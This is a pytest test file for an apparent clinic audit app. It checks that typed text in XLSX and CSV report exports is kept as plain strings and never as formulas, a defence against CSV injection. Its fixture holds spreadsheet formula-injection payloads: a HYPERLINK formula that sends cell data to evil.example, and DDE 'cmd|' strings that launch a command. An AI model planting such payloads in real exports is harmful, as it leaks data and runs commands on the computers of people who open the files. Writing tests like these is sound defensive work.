"""Text anyone typed goes into the exports as text, never as a formula (OWASP "CSV injection").
The XLSX is read back with zipfile and ElementTree, not with the library that wrote it."""

import csv
import io
import zipfile
from xml.etree import ElementTree

import pytest
from fastapi.testclient import TestClient
from sqlmodel import Session

from tests.checklist_docs import small_checklist
from tests.factories import make_clinic, make_region
from tests.reports.conftest import PERFECT
from tests.reports.factories import make_audit, make_version, make_wave
from tests.reports.test_clinic_report_api import as_user

NS = {"m": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}
HOSTILE = {
    "comment": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "text": "+1+cmd|' /C calc'!A0",
    "clinic": "@SUM(1+9)*cmd|' /C calc'!A0",
    "region": "-2+3+cmd|' /C calc'!A0",
    "wave": "\t=1+1",
    "choice_comment": "\r=2+2",
}


@pytest.fixture
def hostile(session: Session) -> None:
    version = make_version(session, small_checklist())
    wave = make_wave(session, HOSTILE["wave"])
    clinic = make_clinic(session, name=HOSTILE["clinic"], region=make_region(session, HOSTILE["region"]))
    make_audit(session, version=version, clinic=clinic, wave=wave,
               answers={**PERFECT, "call.greeting": False, "reception.notes": HOSTILE["text"]},
               comments={"call.greeting": HOSTILE["comment"], "reception.wait": HOSTILE["choice_comment"],
                         "call.callback": "bell \x07 and vertical tab \x0b, which XML cannot carry"})


def _cells(xlsx: bytes) -> list[tuple[str, str | None, str, bool]]:
    """(sheet file, cell type, text, has a formula) of every non-empty cell."""
    found = []
    with zipfile.ZipFile(io.BytesIO(xlsx)) as book:
        shared: list[str] = []
        if "xl/sharedStrings.xml" in book.namelist():
            root = ElementTree.fromstring(book.read("xl/sharedStrings.xml"))
            shared = ["".join(t.text or "" for t in si.iter(f"{{{NS['m']}}}t")) for si in root.findall("m:si", NS)]
        for name in book.namelist():
            if not name.startswith("xl/worksheets/sheet"):
                continue
            for c in ElementTree.fromstring(book.read(name)).iter(f"{{{NS['m']}}}c"):
                kind, v = c.get("t"), c.find("m:v", NS)
                inline = "".join(t.text or "" for t in c.iter(f"{{{NS['m']}}}t"))
                text = shared[int(v.text or 0)] if kind == "s" and v is not None else inline or (
                    v.text if v is not None else "")
                found.append((name, kind, text, c.find("m:f", NS) is not None))
    return found


def test_typed_text_is_a_string_cell_in_the_workbook_and_no_cell_is_a_formula(client: TestClient, session: Session,
                                                                             hostile: None) -> None:
    as_user(client, session, "admin")

    response = client.get("/reports/export.xlsx", params={"checklist": "test-clinic"})

    assert response.status_code == 200
    cells = _cells(response.content)
    assert not [c for c in cells if c[3]], "no cell holds a formula"
    by_text = {text: kind for _, kind, text, _ in cells}
    for value in HOSTILE.values():
        as_read = value.replace("\r", "\n")  # XML reads a carriage return as a line feed
        assert by_text.get(as_read) in ("s", "inlineStr"), value


def test_typed_text_in_the_csv_starts_with_an_apostrophe(client: TestClient, session: Session,
                                                         hostile: None) -> None:
    as_user(client, session, "admin")

    response = client.get("/reports/answers.csv", params={"checklist": "test-clinic"})

    fields = [f for row in csv.reader(io.StringIO(response.content.decode("utf-8-sig"))) for f in row]
    for value in HOSTILE.values():
        assert "'" + value in fields, value
    assert not [f for f in fields if f[:1] in ("=", "+", "@", "\t", "\r")]
    assert not [f for f in fields if f.startswith("-") and not f.lstrip("-").replace(".", "").isdigit()]
